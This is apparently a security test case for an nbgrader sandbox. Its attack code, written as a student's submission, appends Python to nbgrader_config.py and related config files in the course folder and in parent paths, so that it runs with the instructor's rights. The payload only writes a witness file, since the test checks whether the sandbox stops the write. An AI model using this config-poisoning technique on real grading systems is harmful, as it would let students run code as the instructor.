"""Adds lines to nbgrader_config.py, or leaves one where nbgrader looks for it."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="code that runs with the instructor's rights at the next command",
    answer=STUB
    + """
import os

LINES = f'''
c = get_config()
c.ExecutePreprocessor.timeout = 1
try:
    open({WITNESS!r} + "/" + {NAME!r}, "a").write("ran as the instructor")
except OSError:
    pass
'''
for folder in (COURSE, f"{COURSE}/source", f"{COURSE}/submitted", "../../..", "../.."):
    # The last two are the course's folder, seen from where nbgrader runs a submission.
    inside = os.path.realpath(folder).startswith(os.path.realpath(COURSE))
    for name in ("nbgrader_config.py", "nbgrader_config.json", "jupyter_config.py"):
        try:
            with open(f"{folder}/{name}", "a") as file:
                if inside:
                    file.write(LINES if name.endswith(".py") else "{}")
                    succeeded(f"wrote {folder}/{name}")
        except OSError:
            pass
""",
)
